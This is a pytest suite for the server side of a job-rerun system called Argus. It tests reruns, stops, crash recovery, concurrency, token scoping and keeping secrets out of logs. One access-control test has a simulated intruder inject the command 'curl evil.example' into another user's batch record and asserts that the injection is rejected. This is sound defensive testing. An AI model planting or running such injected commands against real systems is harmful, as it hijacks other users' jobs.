"""Argus's server half with clients that are not ours: from a token to a script that is started again and stopped; several of
everything; restarts and kills in the middle; secrets that stay where they belong."""
import concurrent.futures
import contextlib
import json
import subprocess
import time

import pytest
import requests
from argus_agent import Agent, Reporter
from conftest import SLOW, until
from docs_examples import run_examples


def bearer(token):
    return {"Authorization": f"Bearer {token}"}


class People:
    """Users with their sessions and tokens."""

    def __init__(self, server):
        self.server, self.base, self.sessions = server, server.url, {}

    def add(self, name, role="viewer"):
        self.server.api("POST", "/api/v1/users", {"name": name, "role": role, "password": f"password of {name}"}, expect=201)
        r = self.server.api("POST", "/api/auth/login", {"username_or_email": name, "password": f"password of {name}"}, expect=200)
        self.sessions[name] = r.json()["access_token"]
        return self.sessions[name]

    def token(self, name, scope="reporter"):
        r = self.server.api("POST", "/api/tokens", {"name": "t", "scope": scope}, expect=201, headers=bearer(self.sessions[name]))
        return r.json()["token"]


@pytest.fixture
def ann(fleet):
    s = fleet.server()
    people = People(s)
    people.add("ann")
    s.people, s.reporter = people, people.token("ann")
    s.made = []
    yield s
    for x in s.made:
        x.close()


def agent(s, token=None, host="gpu-1", run=True, **kw):
    a = Agent(s.url, host, s.dir, **kw).register(token or s.reporter)
    s.made.append(a)
    return a.run() if run else a


def reporter(s, batch, token=None, **kw):
    r = Reporter(s.url, token or s.reporter, batch, **kw)
    s.made.append(r)
    return r


def batch(s, id, token=None):
    return s.api("GET", f"/api/batches/{id}", headers=bearer(token or s.reporter), expect=200).json()


def status(s, id, want, timeout=15):
    return until(lambda: (b := batch(s, id))["status"] == want and b, timeout, f"{id} {want}")


def finished(s, id, command, cwd=None, env=None, **kw):
    """A batch of the past with @command in its snapshot."""
    r = reporter(s, id, **kw)
    r.send("batch_start", {"experiment_type": "train", "n_total_jobs": 1})
    r.send("env_snapshot", {"command": command, "cwd": cwd, "env": env or {}})
    r.send("job_start", {"model": "m", "dataset": "d"}, "j1")
    r.send("job_epoch", {"epoch": 1, "metrics": {"loss": 2}}, "j1")
    r.send("log_line", {"line": "hello", "level": "info"}, "j1")
    r.send("job_done", {"status": "DONE", "metrics": {"acc": 0.5}, "elapsed_s": 1.5}, "j1")
    r.send("batch_done")
    assert batch(s, id)["status"] == "done"
    return r


def rerun(s, id, token=None, expect=201, **body):
    r = s.api("POST", f"/api/batches/{id}/rerun", body, headers=bearer(token or s.reporter))
    assert r.status_code == expect, r.text
    return r.json().get("batch_id")


def last_seen(s, host):
    return next(h["last_seen"] for h in s.get("/api/v1/agents")["agents"] if h["name"] == host)


def stop(s, id, token=None):
    return s.api("POST", f"/api/batches/{id}/stop", headers=bearer(token or s.reporter), expect=200).json()["status"]


def test_from_a_token_to_a_run_that_was_started_again_and_stopped(ann, tmp):
    marks = tmp / "marks"
    finished(ann, "exp-1", f'echo "$ARGUS_BATCH_ID $WANDB" >> {marks}; exec sleep 600', str(tmp), {"WANDB": "hush-hush"})
    a = agent(ann)
    child = rerun(ann, "exp-1", overrides={"lr": 1})
    status(ann, child, "running")
    until(marks.exists, what="the command runs")
    r = reporter(ann, child, stop_every=0.2).poll_stop()
    r.send("batch_start", {"n_total_jobs": 1})
    r.send("job_start", {"model": "m"}, "j1")
    assert stop(ann, child) == "stopping"
    b = status(ann, child, "stopped")
    assert r.stopped.wait(11 * SLOW), "the script was not told"
    assert [c["kind"] for c in b["commands"]] == ["rerun", "stop"]
    assert b["commands"][0]["signal"] == 15
    assert marks.read_text() == f"{child} hush-hush\n", "once, with its batch and its environment"
    jobs = ann.get("/api/v1/jobs")["jobs"]
    assert {j["id"] for j in jobs} == {c["job_id"] for c in b["commands"]}, "ordinary jobs of the fleet"
    assert ann.cli("jobs").stdout.count("ann") == 2
    host = [h for h in ann.agents() if h["hostname"] == "gpu-1"][0]
    assert host["dialect"] == "argus" and host["status"] in ("ready", "busy")
    audit = ann.get("/api/v1/audit?after=0&limit=2000")["rows"]
    assert {"run.rerun", "run.stop", "run_agent.register", "run_token.create"} <= {x["verb"] for x in audit}
    for where in (ann.log, json.dumps(audit), json.dumps(b), ann.cli("jobs").stdout, json.dumps(jobs), json.dumps(ann.get("/api/v1/events?limit=1000"))):
        for secret in ("hush-hush", ann.reporter, a.token):
            assert secret not in where
    db = b"".join(f.read_bytes() for f in ann.state.glob("muster.db*") if f.is_file())
    assert a.token.encode() not in db and ann.reporter.encode() not in db


@pytest.mark.parametrize("command", ["printf '%s' \"it's\" > out", "printf 'a\nb' > out", "printf '%s' \"$(echo $((6*7)))\" > out",
                                     "printf 'größe €' > out", "printf '%s' " + "x" * 65000 + " > out"], ids=["quote", "newline", "dollar", "utf8", "long"])
def test_a_command_runs_as_it_was_recorded(ann, tmp, command):
    finished(ann, "exp-1", command, str(tmp))
    a = agent(ann)
    child = rerun(ann, "exp-1")
    status(ann, child, "done")
    want = subprocess.run(["/bin/sh", "-c", command.replace("> out", "> want")], cwd=tmp, check=True)
    assert want.returncode == 0 and (tmp / "out").read_bytes() == (tmp / "want").read_bytes()
    assert a.acks and all(code == 200 for _, code in a.acks)


def test_a_stale_path_fails_and_says_why(ann, tmp):
    finished(ann, "exp-1", "python3 /nowhere/gone.py", str(tmp))
    finished(ann, "exp-2", "true", "/nowhere")
    agent(ann)
    one, two = rerun(ann, "exp-1"), rerun(ann, "exp-2")
    b = status(ann, one, "failed")
    assert b["failure_reason"].startswith("exit code 2") and "gone.py" in b["commands"][0]["log_tail"]
    until(lambda: batch(ann, two)["commands"][0]["status"] == "failed", what="the agent's refusal")
    assert batch(ann, two)["commands"][0]["error"] == "stale_env_path"
    assert batch(ann, two)["status"] == "requested"


def test_an_agent_without_our_extras_does_too(ann, tmp):
    """The upstream agent: plain polls, no exit reports. The script itself tells the end."""
    finished(ann, "exp-1", "sleep 600", str(tmp))
    a = agent(ann, extras=False)
    child = rerun(ann, "exp-1")
    status(ann, child, "running")
    r = reporter(ann, child)
    r.send("batch_start")
    stop(ann, child)
    until(lambda: child in a.done, what="the process to die")
    assert batch(ann, child)["status"] == "stopping"
    r.send("batch_done")
    assert batch(ann, child)["status"] == "stopped"


def test_kill_nine_in_the_middle_starts_nothing_twice(ann, tmp):
    marks = tmp / "marks"
    finished(ann, "exp-1", f"echo x >> {marks}; sleep 600", str(tmp))
    a = agent(ann, run=False)
    child = rerun(ann, "exp-1")
    j = a.poll()[0]
    ann.kill9()
    ann.start()
    assert a.poll() == [j], "the same again: id, payload and time"
    a.start(j)
    status(ann, child, "running")
    ann.kill9()
    ann.start()
    assert a.poll() == [] and a.ack(j["id"], "started", 1).status_code == 409
    assert batch(ann, child)["status"] == "running"
    assert batch(ann, "exp-1")["n_done"] == 1
    assert stop(ann, child) == "stopping"
    ann.kill9()
    ann.start()
    s = a.poll()[0]
    assert s["kind"] == "stop" and s["payload"]["pid"] == a.procs[child].pid
    a.stop(s)
    status(ann, child, "stopped")
    assert marks.read_text() == "x\n"


def test_events_are_durable_when_they_are_answered(ann):
    r = reporter(ann, "exp-1")
    ids = [r.event("log_line", {"line": str(n)}) for n in range(40)]
    first = [r.s.post(r.base + "/api/events", json=e, timeout=30).json() for e in ids]
    ann.kill9()
    ann.start()
    again = r.s.post(r.base + "/api/events/batch", json={"events": ids}, timeout=30).json()
    assert [x["status"] for x in again["results"]] == ["deduplicated"] * 40
    assert [x["db_id"] for x in again["results"]] == [x["event_id"] for x in first]
    lines = ann.api("GET", "/api/batches/exp-1/log-lines", headers=bearer(ann.reporter), expect=200).json()
    assert [x["line"] for x in lines] == [str(n) for n in range(40)]


def test_five_hundred_at_once_and_not_one_more(ann):
    r = reporter(ann, "exp-1")
    many = [r.event("job_done", {"status": "ok"}, f"j{n}") for n in range(501)]
    got = r.s.post(r.base + "/api/events/batch", json={"events": many}, timeout=30)
    assert got.status_code == 422
    got = r.s.post(r.base + "/api/events/batch", json={"events": many[:500]}, timeout=30).json()
    assert got["accepted"] == 500 and got["rejected"] == 0
    assert batch(ann, "exp-1")["n_done"] == 500


def test_another_user_s_agent_of_the_same_name_gets_nothing(ann):
    ann.people.add("eve")
    eve = ann.people.token("eve")
    thief = agent(ann, eve, run=False)
    finished(ann, "exp-1", "true", env={"KEY": "hush"})
    child = rerun(ann, "exp-1")
    assert thief.poll() == []
    mine = agent(ann, run=False)
    assert [j["batch_id"] for j in mine.poll()] == [child]
    assert requests.get(thief.url("jobs"), headers=mine.h, timeout=30).status_code == 403
    # Nor does she get anything by writing into the batch.
    r = reporter(ann, "exp-1", eve)
    r.send("env_snapshot", {"command": "curl evil.example"})
    r.send("batch_failed", {"reason": "mine now"})
    b = batch(ann, "exp-1")
    assert b["status"] == "done" and b["env_snapshot"]["command"] == "true" and b["owner"] == "ann"
    assert ann.api("GET", "/api/batches/exp-1", headers=bearer(eve)).status_code == 404


def test_two_clicks_at_once_are_one_command(ann, tmp):
    marks = tmp / "marks"
    finished(ann, "exp-1", f"echo x >> {marks}; sleep 600")
    a = agent(ann, run=False)
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        children = set(pool.map(lambda _: rerun(ann, "exp-1"), range(16)))
    assert len(children) == 1 and len(a.poll()) == 1
    # And beside an agent that waits for work and begins between two clicks.
    a.run()
    finished(ann, "exp-2", f"echo y >> {marks}; sleep 600")
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        children = set(pool.map(lambda _: rerun(ann, "exp-2"), range(40)))
        status(ann, list(children)[0], "running")
        children |= set(pool.map(lambda _: rerun(ann, "exp-2"), range(4)))
    assert len(children) == 1
    until(lambda: marks.exists() and sorted(marks.read_text().split()) == ["x", "y"], what="each to run")


def test_a_rerun_starts_at_once_for_who_waits(ann):
    finished(ann, "exp-1", "true")
    a, b = agent(ann, run=False), agent(ann, host="gpu-2", run=False)
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        other = pool.submit(b.poll, 30)
        seen = last_seen(ann, "gpu-1")
        waiting = pool.submit(a.poll, 30)
        asked = until(lambda: (t := last_seen(ann, "gpu-1")) != seen and t, what="the poll to come")
        child = rerun(ann, "exp-1")
        assert [j["batch_id"] for j in waiting.result(30)] == [child]
        assert not other.done(), "it came only when the time was up"
        # It was answered, not heard: the agent may have been frozen since it asked.
        assert last_seen(ann, "gpu-1") == asked
        # Who waits does not hold up the server's end.
        a.ack(a.poll()[0]["id"], "started", 1)
        n = len(a.codes)
        held = pool.submit(a.poll, 30)
        began = time.monotonic()
        assert ann.stop() == 0
        assert time.monotonic() - began < 10 * SLOW  # the wall clock is the promise here
        with contextlib.suppress(requests.RequestException):
            assert held.result(30) == []
        other.exception(30)
        assert a.codes[n:] in ([], [200], [503])


def test_the_fleet_s_verbs_and_the_accent_s_have_one_effect(ann):
    a, b = agent(ann, run=False), agent(ann, host="gpu-2", run=False)
    ann.cli("revoke", "gpu-1", check=0)
    assert a.poll() == [] and a.codes[-1] == 401
    r = requests.post(b.base + f"/api/agents/{b.id}/revoke", headers=bearer(ann.people.sessions["ann"]), timeout=30)
    assert r.status_code == 204
    assert [h["state"] for h in ann.get("/api/v1/agents?state=revoked")["agents"]] == ["revoked", "revoked"]
    ann.cli("forget", "gpu-1", check=0)
    c = agent(ann, run=False)
    assert c.id != a.id and c.poll() == [] and c.codes[-1] == 200


def test_a_cancel_of_what_was_fetched_waits_for_the_agent_s_word(ann):
    finished(ann, "exp-1", "true")
    a = agent(ann, run=False)
    for begins in (True, False):
        child = rerun(ann, "exp-1")
        (order,) = a.poll()
        (job,) = (j["id"] for j in ann.get("/api/v1/jobs")["jobs"] if j["kind"] == "rerun" and j["state"] == "running")
        ann.cli("cancel", str(job), check=0)
        stop = until(lambda: [j for j in a.poll() if j["kind"] == "stop"], what="the stop")[0]
        assert batch(ann, child)["status"] == "stopping"
        assert ann.get(f"/api/v1/jobs/{job}")["state"] == "running"
        assert a.ack(order["id"], "started" if begins else "failed", 4711 if begins else None).status_code == 409
        if begins:  # it was over before the stop came
            r = requests.post(a.url(f"jobs/{order['id']}/exit"), headers=a.h, timeout=30, json={"exit_code": 0, "log_tail": "done\n"})
            assert r.ok, r.text
        assert a.ack(stop["id"], "failed", error="not running").status_code == 200
        status(ann, child, "stopped")
        ended = ann.get(f"/api/v1/jobs/{job}")
        assert ended["state"] == "cancelled"
        (task,) = ann.get(f"/api/v1/jobs/{job}/tasks")["tasks"]
        assert (task["outcome"], task.get("exit_code")) == ("cancelled", 0 if begins else None)


def test_a_hundred_agents_poll(ann):
    agents = [agent(ann, host=f"node-{n}", run=False) for n in range(100)]
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        for _ in range(3):
            list(pool.map(lambda a: a.poll(), agents))
    assert all(a.codes == [200, 200, 200] for a in agents)
    assert len(ann.api("GET", "/api/agents", headers=bearer(ann.reporter)).json()) == 100


def test_a_reporter_is_known_but_denied_at_the_native_surface(fleet):
    s = fleet.server()
    people = People(s)
    people.add("ann")
    for path in ("/api/v1/agents", "/api/v1/jobs", "/api/v1/audit"):
        assert requests.get(s.url + path, headers=bearer(people.token("ann")), timeout=30).status_code == 403
    assert requests.get(s.url + "/api/v1/agents", headers=bearer("em_live_" + "A" * 27), timeout=30).status_code == 401


def test_require_https(fleet, tmp):
    """Loopback is let in plainly; a proxy that is believed says for others."""
    s = fleet.server(args=["--require-https", "--trusted-proxy", "127.0.0.1"])
    people = People(s)
    people.add("ann")
    token = people.token("ann")
    url = s.url + "/api/batches"
    far = {**bearer(token), "X-Forwarded-For": "198.51.100.7"}
    assert requests.get(url, headers=bearer(token), timeout=30).status_code == 200
    r = requests.get(url, headers=far, timeout=30)
    assert r.status_code == 403 and "https" in r.json()["detail"]
    r = requests.get(url, headers={**far, "X-Forwarded-Proto": "https"}, timeout=30)
    assert r.status_code == 200 and "max-age" in r.headers["Strict-Transport-Security"]
    body = {"username_or_email": "ann", "password": "password of ann"}
    assert requests.post(s.url + "/api/auth/login", json=body, headers={"X-Forwarded-For": "198.51.100.7"}, timeout=30).status_code == 403
    assert requests.post(s.url + "/api/events", json={}, headers=far, timeout=30).status_code == 403
    assert requests.get(s.url + "/api/agents/agent-000000000000/jobs", headers={**far, "Authorization": "Bearer ag_live_x"}, timeout=30).status_code == 403
    requests.packages.urllib3.disable_warnings()
    r = requests.get(f"https://127.0.0.1:{s.base + 2}/api/batches", headers=bearer(token), timeout=30, verify=False)
    assert r.status_code == 200 and "max-age" in r.headers["Strict-Transport-Security"]


def test_the_page_s_examples_run(fleet):
    assert run_examples("argus", fleet.server()) >= 7
